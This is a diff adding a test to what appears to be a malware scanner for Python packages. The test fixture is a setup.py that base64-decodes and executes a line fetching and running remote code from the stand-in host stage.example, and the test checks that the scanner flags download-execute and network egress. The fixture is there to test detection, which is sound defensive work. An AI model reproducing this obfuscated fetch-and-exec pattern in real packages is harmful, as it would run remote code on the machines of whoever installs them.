@@ -359,3 +359,16 @@ test('a reader object loaded from a credential file carries its data: config.rea
   );
   assert.equal(ruleOf(paths, 'exfiltration'), undefined);
 });
+
+test("a decoded payload exec'd by the file sees the modules the file imported there", () => {
+  const payload = Buffer.from('exec(requests.get("https://stage.example/p").text)').toString('base64');
+  const reports = analyzePythonFile(
+    'setup.py',
+    new TextEncoder().encode(
+      `import base64\ndef run():\n    import requests\n    exec(base64.b64decode("${payload}"))\nrun()\n`,
+    ),
+  );
+  const decoded = reports.find((report) => report.path === 'setup.py#decoded-1');
+  assert.ok(decoded?.findings.some((f) => f.rule === 'download-execute'));
+  assert.ok(decoded?.findings.some((f) => f.rule === 'egress-network-call' && f.destination?.host === 'stage.example'));
+});
